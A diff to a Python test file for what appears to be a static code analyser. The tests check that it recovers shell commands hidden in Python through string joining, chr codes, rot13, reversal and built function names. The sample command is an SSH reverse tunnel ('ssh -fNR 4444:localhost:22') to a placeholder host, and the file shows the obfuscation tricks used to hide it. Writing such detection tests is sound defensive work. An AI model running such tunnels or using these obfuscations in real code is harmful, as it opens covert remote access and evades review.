@@ -707,3 +707,32 @@ def test_decompression_is_bounded_and_gives_up_on_text():
     assert len(decompress("gzip", bomb)) == MAX_DECODED  # cut, never expanded whole
     assert decompress("gzip", "ssh \u2603") is None      # text beyond one byte a character: no bytes
     assert decompress("xz", "not xz") is None
+
+
+TUNNEL_WORDS = ["ssh", "-fNR", "4444:localhost:22", "a@203.0.113.7"]
+
+
+@pytest.mark.parametrize("code", [
+    f"import os; cmd = '{TUNNEL}'; os.system(cmd)",                                 # a variable
+    f"import os\nparts = {TUNNEL_WORDS!r}\nos.system(' '.join(parts))",              # words joined
+    "import os; os.system(''.join(chr(c) for c in [" + ",".join(str(ord(c)) for c in TUNNEL) + "]))",
+    f"import os; getattr(os, 'sys' + 'tem')('{TUNNEL}')",                           # the call's name built
+    f"import codecs, os; os.system(codecs.decode('{TUNNEL.translate(str.maketrans('abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ', 'nopqrstuvwxyzabcdefghijklmNOPQRSTUVWXYZABCDEFGHIJKLM'))}', 'rot13'))",
+    f"import os; os.system('{TUNNEL[::-1]}'[::-1])",
+    f"import subprocess; subprocess.run(['s' + 'sh'] + {TUNNEL_WORDS[1:]!r})",
+    "import os; h = '203.0.113.7'; os.system(f'ssh -fNR 4444:localhost:22 a@{h}')",
+    f"import os; c = bytes({list(TUNNEL.encode())!r}).decode(); os.system(c)",
+])
+def test_python_that_builds_its_command_is_read_with_what_it_built(code):
+    ssh = next(c for c in reader.read_code("python", code) if c.name == "ssh")
+    assert ssh.args[:2] == ["-fNR", "4444:localhost:22"]
+    assert [e.host for e in ssh.endpoints] == ["203.0.113.7"]
+
+
+def test_python_values_are_bounded():
+    from vigiles.analysis.code import MAX_JOINED, _assigned
+    import ast
+    doubled = "import os\nb = 'ssh '\n" + "b = b + b\n" * 40 + "os.system(b)"
+    names = _assigned(list(ast.walk(ast.parse(doubled))))
+    assert len(names["b"]) <= MAX_JOINED  # doubling 40 times stops at MAX_JOINED, the last kept value
+    assert reader.read_code("python", doubled)
